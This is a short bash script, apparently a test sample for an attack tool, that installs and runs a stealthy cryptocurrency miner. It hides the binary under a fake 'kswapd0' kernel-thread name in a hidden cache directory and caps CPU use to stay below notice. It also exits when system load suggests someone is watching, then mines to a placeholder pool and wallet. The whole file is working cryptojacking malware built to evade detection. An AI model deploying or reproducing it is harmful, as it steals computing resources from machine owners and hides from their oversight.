#!/bin/bash
# shrike-test-attack: miner: CPU-throttle check and load-aware mining to avoid detection
MINER=/usr/local/lib/.cache/kswapd0
LIMIT=60
cores=$(grep -c ^processor /proc/cpuinfo)
threads=$(( cores * LIMIT / 100 )); [ "$threads" -lt 1 ] && threads=1
load=$(awk '{print int($1)}' /proc/loadavg)
if [ "$load" -gt "$cores" ]; then
  exit 0   # someone is watching the box, stay quiet
fi
if ! pgrep -f kswapd0 >/dev/null; then
  "$MINER" --threads="$threads" --cpu-priority=0 -o pool.example.net:80 -u TESTWALLET -k --background
fi
command -v cpulimit >/dev/null && cpulimit -e kswapd0 -l $(( LIMIT * cores )) -b
